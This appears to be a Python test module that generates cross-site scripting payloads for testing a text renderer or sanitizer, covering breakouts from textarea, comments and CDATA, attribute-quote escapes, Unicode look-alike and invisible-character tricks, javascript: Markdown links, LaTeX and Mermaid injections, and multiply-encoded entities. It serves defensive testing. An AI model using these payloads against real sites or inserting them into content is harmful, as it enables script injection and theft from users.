"""Payloads for whoever reads text: breakouts, look-alikes, Markdown, formulas, entities."""

from __future__ import annotations

from collections.abc import Iterator
from html import escape

from tests.payloads.marks import BEACON, IMAGE, JS, SCRIPT, URL, percent, references


def breakouts() -> Iterator[str]:
    """Out of elements whose content is text, out of comments, and out of our own elements."""
    ends = (
        "</textarea>", "</title>", "</noscript>", "</style>", "</xmp>", "</iframe>", "</noembed>",
        "</noframes>", "</select>", "</template>", "</mark></p></article>", "</blockquote></div>",
        "</span></summary></details>", "</html></body>", "-->", "--!>", "<!-->", "<!--->", "]]>",
        "<!x>", "<![CDATA[x]]>", "?>", "<?x>", "<%x%>", "<!DOCTYPE x [<!ENTITY a 'b'>]>", "</ x>",
    )  # fmt: skip
    for end in ends:
        yield end + IMAGE
        yield end.upper() + SCRIPT
    yield f"<?xml-stylesheet href={URL}?>{BEACON}"
    yield f"<!--[if true]>{SCRIPT}<![endif]-->{SCRIPT}"


def attributes() -> Iterator[str]:
    """Out of an attribute, with each kind of quote and each thing that might stand before it."""
    for before in ("", "x", "\\", "&quot;", "&#39;", "\x00"):
        for q in ('"', "'", "`", ""):
            yield f"{before}{q} onmouseover={JS} onfocus={JS} tabindex=0 x={q}"
            yield f"{before}{q}>{IMAGE}"


def letters() -> Iterator[str]:
    """Look-alikes, unseen characters, and case mappings that end in ASCII."""
    for left, right in ("＜＞", "‹›", "﹤﹥", "〈〉", "˂˃", "ᐸᐳ"):
        yield f"{left}img src=x onerror={JS}{right}{IMAGE}"
    for char in "\x00\u200b\u200d\u2060\ufeff\u00ad\u202e\u2066\u061c\u180e\U000e0001":
        yield f"<{char}img src=x onerror={JS}>{char}{IMAGE}"
        yield f"<im{char}g src=x one{char}rror={JS}><img{char} src=x onerror={JS}>"
    for blank in "\u00a0\u0085\u2028\u2029\u3000\v":
        yield f"<img{blank}src=x{blank}onerror={JS}>{blank}{IMAGE}"
    yield from (f"<ſcript>{JS}</ſcript>", f"<ſvg onload={JS}>{IMAGE}", f"<ımg src=x onerror={JS}>",
                f"java\u212ascript:{JS}", f"%c0%bcimg src=x onerror={JS}>{IMAGE}",
                f"\u0301{IMAGE}\u0301", f"\U0001f600{IMAGE}\U0001f600")  # fmt: skip


def markdown() -> Iterator[str]:
    yield from (
        f"[go](javascript:{JS})", f"[go](<javascript:{JS}>)", f"[go](java&#115;cript:{JS})",
        f"[go](  javascript:{JS} 'x')", f"[go][r]\n\n[r]: javascript:{JS}", f"<javascript:{JS}>",
        f"![x](http:{URL})", f'![x](x"onerror="{JS})', f"[![x](http:{URL})](javascript:{JS})",
        f"![x][r]\n\n[r]: http:{URL}", f"[x](http:{URL} \"onmouseover='{JS}'\")",
        f"```html\n{IMAGE}\n```\n{IMAGE}", f"`{IMAGE}`", f"> {IMAGE}", f"- {IMAGE}", f"# {IMAGE}",
        f"    {IMAGE}\n\n{IMAGE}", f"**{IMAGE}**", f"| a |\n|---|\n| {IMAGE} |",
        f"[^1]\n\n[^1]: {IMAGE}",
        f"<div>\n\n{IMAGE}\n\n</div>", f"\\<img src=x onerror={JS}>{IMAGE}", f"*[x]: {IMAGE}",
        f":::html\n{IMAGE}\n:::", f"[x]{{onclick={JS}}}{IMAGE}", f"http:{URL}\"onclick={JS}",
    )  # fmt: skip


def formulas() -> Iterator[str]:
    for left, right in (("$$", "$$"), ("$", "$"), ("\\(", "\\)"), ("\\[", "\\]")):
        yield f"{left}\\href{{javascript:{JS}}}{{go}}{right}"
        yield f"{left}\\text{{{IMAGE}}}{right}"
        yield f"{left}\\includegraphics{{http:{URL}}}{BEACON}{right}"
        yield f"{left}\\htmlStyle{{background:url({URL})}}{{x}}{right}"
        yield f"{left}\\unicode{{{IMAGE}}}\\def\\a{{\\a}}\\a{right}"
    yield from (f"```mermaid\ngraph TD;A-->B[{IMAGE}]\nclick A \"javascript:{JS}\"\n```",
                f"\\begin{{html}}{IMAGE}\\end{{html}}")  # fmt: skip


def entities() -> Iterator[str]:
    """Escaped once, twice, or in another alphabet: for whoever unescapes once too often."""
    for text in (IMAGE, SCRIPT):
        once = escape(text)
        yield from (
            once, escape(once), escape(escape(once)), percent(text),
            percent(percent(text)),
            once.replace(";", ""), once.upper().replace(JS.upper(), JS), references(text, "&#{};"),
            references(text, "&#x{:X};"), references(text, "&#{:07}"),
            references(text, "\\u{:04x}"),
            references(text, "\\x{:02x}"), references(text, "\\{:o}"), references(text, "%u{:04x}"),
            text.replace("<", "+ADw-").replace(">", "+AD4-"),
            text.replace("<", "&LT;").replace(">", "&GT;"),
            text.replace("<", "&lt"), text.replace("<", "\\x3c"), text.replace("<", "&nvlt;"),
        )  # fmt: skip
